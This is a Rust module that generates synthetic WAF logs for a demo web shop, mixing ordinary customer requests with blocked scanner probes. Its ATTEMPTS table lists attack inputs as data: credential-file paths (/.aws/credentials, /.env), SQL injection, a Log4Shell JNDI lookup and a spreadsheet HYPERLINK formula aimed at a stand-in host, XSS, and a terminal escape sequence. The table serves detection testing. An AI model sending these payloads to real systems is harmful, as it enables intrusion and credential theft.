//! The web shop behind its firewall: customers, and scanners that try every door.

use super::Background;
use super::network::internet;
use crate::demo::dice::{Dice, Weighted};
use crate::demo::plan::Stream;
use crate::demo::rows::{Event, Rule, WebEvent};
use crate::demo::world::{REGIONS, World};

const HOSTS: [&str; 2] = ["shop.example.com", "api.shop.example.com"];
const COUNTRIES: [&str; 8] = ["US", "DE", "GB", "FR", "NL", "BR", "IN", "JP"];
const PAGES: [&str; 8] = [
    "/",
    "/products",
    "/cart",
    "/checkout",
    "/static/app.js",
    "/search",
    "/login",
    "/orders",
];
const BROWSERS: [&str; 3] = [
    "Mozilla/5.0 (iPhone; CPU iPhone OS 26_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.0 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36",
];

const fn rule(
    name: &'static str,
    kind: &'static str,
    condition: Option<&'static str>,
    place: Option<&'static str>,
    details: &'static [&'static str],
) -> Rule {
    Rule {
        name,
        kind,
        condition,
        place,
        details,
        limit: None,
    }
}

/// What scanners try: path, query, agent, and the rule that catches it. The agents are as
/// hostile as they are outside.
const ATTEMPTS: [(&str, Option<&str>, &str, Rule); 8] = [
    (
        "/.aws/credentials",
        None,
        "curl/8.15.0",
        rule(
            "block-dotfiles",
            "REGULAR",
            Some("REGEX"),
            Some("URI"),
            &["/.aws/"],
        ),
    ),
    (
        "/.env",
        None,
        "python-requests/2.32.5",
        rule(
            "block-dotfiles",
            "REGULAR",
            Some("REGEX"),
            Some("URI"),
            &["/.env"],
        ),
    ),
    (
        "/wp-login.php",
        None,
        "Mozilla/5.0 zgrab/0.x",
        rule(
            "AWS-AWSManagedRulesCommonRuleSet",
            "MANAGED_RULE_GROUP",
            None,
            None,
            &[],
        ),
    ),
    (
        "/search",
        Some("q=1%27%20OR%20%271%27%3D%271"),
        "sqlmap/1.9",
        rule(
            "AWS-AWSManagedRulesSQLiRuleSet",
            "MANAGED_RULE_GROUP",
            Some("SQL_INJECTION"),
            Some("QUERY_STRING"),
            &["1", "OR", "1"],
        ),
    ),
    (
        "/login",
        None,
        "${jndi:ldap://scan.example.net/a}",
        rule(
            "AWS-AWSManagedRulesKnownBadInputsRuleSet",
            "MANAGED_RULE_GROUP",
            None,
            Some("HEADER"),
            &["${jndi:"],
        ),
    ),
    (
        "/products",
        Some("id=%3Cscript%3Ealert(1)%3C/script%3E"),
        "Mozilla/5.0\u{1b}]0;owned\u{7}",
        rule(
            "AWS-AWSManagedRulesCommonRuleSet",
            "MANAGED_RULE_GROUP",
            Some("XSS"),
            Some("QUERY_STRING"),
            &["<script>"],
        ),
    ),
    (
        "/api/login",
        None,
        "Go-http-client/2.0",
        Rule {
            name: "login-rate",
            kind: "RATE_BASED",
            condition: None,
            place: None,
            details: &[],
            limit: Some(100),
        },
    ),
    (
        "/admin",
        None,
        "=HYPERLINK(\"http://scan.example.net\",\"log\")",
        rule("admin-from-office", "REGULAR", None, None, &[]),
    ),
];

/// WAF logs of one Region's load balancer.
pub(super) struct Web {
    balancer: String,
    pages: Weighted,
    attempts: Weighted,
}

impl Web {
    pub(super) fn new(world: &World, stream: Stream) -> Self {
        Self {
            balancer: format!(
                "arn:aws:elasticloadbalancing:{}:{}:loadbalancer/app/shop-front/50dc6c495c0c9188",
                REGIONS[stream.region], world.accounts[stream.account].id
            ),
            pages: Weighted::zipf(PAGES.len(), 0.9),
            attempts: Weighted::zipf(ATTEMPTS.len(), 0.6),
        }
    }

    fn customer(&self, dice: &mut Dice) -> WebEvent {
        let ip = if dice.chance(0.4) {
            format!(
                "2001:db8:{:x}:{:x}::{:x}",
                dice.below(4096),
                dice.below(16),
                dice.below(65_536)
            )
        } else {
            internet(dice)
        };
        let path = PAGES[self.pages.draw(dice)];
        let buys = matches!(path, "/cart" | "/checkout" | "/login") && dice.chance(0.5);
        WebEvent {
            ip,
            country: COUNTRIES[(dice.unit().powi(2) * 8.0) as usize],
            balancer: self.balancer.clone(),
            host: HOSTS[usize::from(dice.chance(0.3))],
            method: if buys { "POST" } else { "GET" },
            path: path.to_owned(),
            query: (path == "/search").then(|| format!("q=item-{}", dice.below(500))),
            agent: BROWSERS[dice.below(3)].to_owned(),
            referrer: dice.chance(0.5).then_some("https://shop.example.com/"),
            request: format!("1-{}", dice.hex(24)),
            rule: None,
            blocked: false,
            status: *dice.pick(&[200, 200, 200, 200, 200, 200, 304, 302, 404, 500]),
        }
    }

    fn scanner(&self, dice: &mut Dice) -> WebEvent {
        let (path, query, agent, rule) = ATTEMPTS[self.attempts.draw(dice)];
        let missed = dice.chance(0.05);
        WebEvent {
            ip: format!("198.51.100.{}", 100 + dice.below(21)),
            country: COUNTRIES[dice.below(8)],
            method: if path.ends_with("login") {
                "POST"
            } else {
                "GET"
            },
            path: path.to_owned(),
            query: query.map(str::to_owned),
            agent: agent.to_owned(),
            referrer: None,
            rule: (!missed).then_some(rule),
            blocked: !missed,
            status: if missed { 404 } else { 403 },
            ..self.customer(dice)
        }
    }
}

impl Background for Web {
    fn next(&mut self, _time: i64, dice: &mut Dice) -> Event {
        Event::Web(if dice.chance(0.14) {
            self.scanner(dice)
        } else {
            self.customer(dice)
        })
    }
}
